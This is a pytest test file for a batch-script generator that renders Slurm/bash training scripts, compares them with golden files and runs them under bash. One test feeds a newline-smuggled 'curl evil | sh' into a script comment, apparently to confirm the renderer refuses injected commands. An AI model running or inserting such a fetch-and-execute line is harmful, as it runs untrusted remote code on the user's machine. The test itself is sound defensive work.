"""The text of a batch script, against golden files; and that bash runs it as written.

After a wanted change:  SHOAL_ACCEPT_GOLDEN=1 python -m pytest tests/plan/test_script.py
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from shoal.describe.cluster import Cluster
from shoal.errors import InputError
from shoal.model import Request
from shoal.plan.batch_script import launch_lines, render_script, script_header, setup_text, split_torchrun

GOLDEN = Path(__file__).parents[1] / "golden"
CLUSTER = Cluster(
    name="galvani",
    env={"NCCL_SOCKET_IFNAME": "ib0", "ODD": "it's $HOME\nand a line"},
    network="aws-efa",
    setup=("source env.sh", "module load cuda"),
)
OPTIONS = [("job-name", "000_pretrain1_0"), ("partition", "a b#c"), ("requeue", None)]


def assert_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if os.environ.get("SHOAL_ACCEPT_GOLDEN"):
        path.write_text(text)
    accept = f"SHOAL_ACCEPT_GOLDEN=1 python -m pytest {Path(__file__).name}"
    assert path.is_file() and path.read_text() == text, f"{path} differs; to accept the change: {accept}"


@pytest.mark.parametrize(
    ("name", "launch", "command", "request_"),
    [
        ("process_1_node.sh", "process", ["python", "train.py", "--name=a b"], Request(nodes=1)),
        ("process_2_nodes.sh", "process", ["python", "train.py"], Request(nodes=2)),
        ("torchrun_1_node.sh", "torchrun", ["python", "-m", "my.train", "x='y'"], Request(nodes=1, gpus=4, cpus=32)),
        ("torchrun_4_nodes.sh", "torchrun", ["./train.py", "$HOME"], Request(nodes=4, gpus=8, cpus=96)),
    ],
)
def test_the_script_is_what_the_golden_file_says(name: str, launch: str, command: list[str], request_: Request) -> None:
    text = render_script(
        script_header(OPTIONS, ["a comment"]), setup_text(CLUSTER), launch_lines(launch, command, request_)
    )
    assert_golden(name, text)
    assert subprocess.run(["bash", "-n"], input=text, capture_output=True, text=True).stderr == ""


def run(text: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["bash"], input=text, capture_output=True, text=True, cwd=cwd)


def script(cluster: Cluster, command: list[str]) -> str:
    return render_script(script_header([]), setup_text(cluster), launch_lines("process", command, Request()))


def test_exports_arrive_unchanged_and_setup_lines_run_after_them(tmp_path: Path) -> None:
    cluster = Cluster(name="x", env={"ODD": "it's $HOME\nand"}, network="aws-efa", setup=('export TWICE="$ODD$ODD"',))
    show = 'printf "%s|" "$ODD" "$TWICE" "$FI_PROVIDER" "$LD_LIBRARY_PATH"'
    done = run(script(cluster, ["bash", "-c", show]), tmp_path)
    assert done.stdout.startswith("it's $HOME\nand|it's $HOME\nandit's $HOME\nand|efa|/opt/amazon/efa/lib")


def test_a_failing_setup_line_ends_the_job_with_its_code(tmp_path: Path) -> None:
    done = run(script(Cluster(name="x", setup=("(exit 7)", "echo never")), ["echo", "never"]), tmp_path)
    assert (done.returncode, done.stdout) == (7, "")
    last = run(script(Cluster(name="x", setup=("echo first", "(exit 9)")), ["echo", "never"]), tmp_path)
    assert (last.returncode, last.stdout) == (9, "first\n")


def test_what_fails_harmlessly_inside_a_sourced_file_does_not_end_the_job(tmp_path: Path) -> None:
    (tmp_path / "env.sh").write_text("false\nact() { false; echo act; }\nact\nexport DONE=yes\n")
    done = run(script(Cluster(name="x", setup=("source ./env.sh", "false || true")), ["printenv", "DONE"]), tmp_path)
    assert (done.returncode, done.stdout) == (0, "act\nyes\n")
    (tmp_path / "env.sh").write_text("return 5\n")
    done = run(script(Cluster(name="x", setup=("source ./env.sh", "echo never")), ["echo", "never"]), tmp_path)
    assert (done.returncode, done.stdout) == (5, "")


def test_setup_lines_may_read_unset_variables_as_conda_does(tmp_path: Path) -> None:
    done = run(script(Cluster(name="x", setup=('echo "[$CONDA_NOT_SET]"',)), ["echo", "ok"]), tmp_path)
    assert done.stdout == "[]\nok\n"


def test_the_programs_exit_code_is_the_scripts(tmp_path: Path) -> None:
    assert run(script(Cluster(name="x"), ["bash", "-c", "exit 44"]), tmp_path).returncode == 44


def test_a_here_document_in_setup_is_not_indented(tmp_path: Path) -> None:
    lines = ("cat > f <<END", "  two", "END", "echo 'a", "b'")
    done = run(script(Cluster(name="x", setup=lines), ["cat", "f"]), tmp_path)
    assert (done.stdout, done.stderr) == ("a\nb\n  two\n", "")


def test_several_nodes_outside_a_job_say_that_sbatch_is_needed(tmp_path: Path) -> None:
    text = render_script(
        script_header([]), setup_text(Cluster(name="x")), launch_lines("torchrun", ["a.py"], Request(nodes=2))
    )
    done = subprocess.run(["bash"], input=text, capture_output=True, text=True, env={"PATH": os.environ["PATH"]})
    assert done.returncode != 0
    assert "this script needs 2 nodes: submit it with sbatch" in done.stderr


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (["python", "-m", "x", "-a"], (["torchrun"], ["-m", "x", "-a"])),
        (["python3.11", "-u", "t.py"], (["torchrun"], ["t.py"])),
        ([".venv/bin/python", "t.py"], ([".venv/bin/python", "-m", "torch.distributed.run"], ["t.py"])),
        (["./train.py", "a"], (["torchrun"], ["./train.py", "a"])),
        (["./train", "a"], (["torchrun"], ["--no-python", "./train", "a"])),
        (["python", "-c", "x"], (["torchrun"], ["--no-python", "python", "-c", "x"])),
    ],
)
def test_torchrun_starts_python_itself(command: list[str], expected: tuple[list[str], list[str]]) -> None:
    assert split_torchrun(command) == expected


def test_what_cannot_be_written_safely_is_refused() -> None:
    with pytest.raises(InputError):
        script_header([("comment", "a\nb")])
    with pytest.raises(InputError):
        script_header([], ["a\ncurl evil | sh"])
    with pytest.raises(InputError):
        setup_text(Cluster(name="x"), {"A;B": "1"})
    with pytest.raises(InputError, match="unknown launch mode 'mpi'"):
        launch_lines("mpi", ["x"], Request())
